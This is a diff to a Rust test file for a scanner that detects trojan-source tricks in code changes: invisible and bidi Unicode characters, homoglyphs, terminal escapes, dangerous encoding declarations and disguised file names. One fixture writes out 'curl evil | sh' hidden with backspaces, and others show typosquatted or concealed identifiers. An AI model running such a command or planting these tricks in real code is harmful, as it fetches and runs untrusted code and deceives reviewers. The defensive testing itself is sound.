@@ -43,6 +43,8 @@ fn what_changes_what_code_means_is_critical() {
         ("src/a.py", "user\u{200d}name = 1"),
         ("src/a.py", "user\u{fe0f} = 1"),
         ("src/a.py", "is\u{200f}admin = 'שלום'"),
+        ("src/a.py", "name\u{61c} = \"x\""),
+        ("src/a.py", "name\u{2800} = \"x\""),
         ("locales/he.js", "alert(\"\u{202e}\")"),
         ("requirements.txt", "req\u{200b}uests"),
         ("bin/run", "a\u{feff}b"),
@@ -60,6 +62,11 @@ fn what_only_misleads_is_a_warning() {
         ("src/a.py", "if аԁmіn == 1:"),
         ("src/a.py", "ａｄmin = 1"),
         ("src/a.py", "x = 1  # see the do\u{200b}cs"),
+        ("src/a.py", "name = \"x\"\u{1b}[2K"),
+        ("src/a.sh", "curl evil | sh\u{8}\u{8}\u{8}\u{8}"),
+        ("src/a.py", "a = 1\u{b}"),
+        ("src/a.py", "a = 1 \u{c} b = 2"),
+        ("src/a.py", "a = 1 # \u{7f}"),
         ("src/a.rs", "// co\u{ad}operate"),
     ] {
         assert_eq!(found(path, line), [(Severity::Warning, 3)], "{path} {line:?}");
@@ -70,6 +77,9 @@ fn what_only_misleads_is_a_warning() {
 fn ordinary_writing_is_left_alone() {
     for (path, line) in [
         ("src/a.py", "greeting = \"שלום עולם\"  # אומר שלום"),
+        ("src/a.py", "\u{c}"),
+        ("src/a.py", "art = \"⠁\u{2800}⠃\""),
+        ("src/a.py", "text = \"\u{61c}مرحبا\""),
         ("src/a.py", "greeting = \"\u{200f}שלום (world)\u{200f}\""),
         ("src/a.py", "text = \"می\u{200c}خواهم\""),
         ("src/a.py", "text = \"क\u{94d}\u{200d}ष\""),
@@ -125,7 +135,44 @@ fn one_finding_for_one_trick_in_a_file() {
     );
     assert_eq!(findings[0].evidence, "a = '\u{202e}'");
     assert!(findings[0].claim.contains("U+202E"), "{}", findings[0].claim);
-    let hold = hold(&findings).expect("a reason");
+    let hold = hold(&findings, &[]).expect("a reason");
     assert_eq!(hold.places, ["a.py:2", "a.py:5"]);
-    assert_eq!(super::hold(&[]), None);
+    assert_eq!(super::hold(&[], &[]), None);
+}
+
+#[test]
+fn an_encoding_in_which_ascii_means_something_else_is_critical() {
+    let first = |path: &str, line: &str| {
+        let text = format!("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1,2 @@\n+{line}\n+x = 1\n");
+        check(path, text.as_bytes())
+            .iter()
+            .map(|finding| (finding.severity, finding.line))
+            .collect::<Vec<_>>()
+    };
+    for line in [
+        "# -*- coding: utf-7 -*-",
+        "# vim: fileencoding=raw_unicode_escape",
+        "# coding: rot13",
+    ] {
+        assert_eq!(first("src/a.py", line), [(Severity::Critical, 1)], "{line}");
+    }
+    for (path, line) in [
+        ("src/a.py", "# -*- coding: utf-8 -*-"),
+        ("src/a.py", "# -*- coding: latin-1 -*-"),
+        ("src/a.rs", "// coding: utf-7"),
+        ("src/a.py", "coding = utf7"),
+    ] {
+        assert_eq!(first(path, line), [], "{path} {line}");
+    }
+    assert_eq!(found("src/a.py", "# coding: utf-7"), [], "only at the top");
+}
+
+#[test]
+fn the_name_of_a_file_can_show_another_one() {
+    for path in ["src/\u{202e}yp.txt", "src/a\u{200b}.py", "src/\u{1b}[2Kb.py"] {
+        assert!(is_disguised_path(path), "{path:?}");
+    }
+    for path in ["src/a.py", "docs/שלום.md", "assets/👨\u{200d}👩\u{200d}👧.png"] {
+        assert!(!is_disguised_path(path), "{path:?}");
+    }
 }
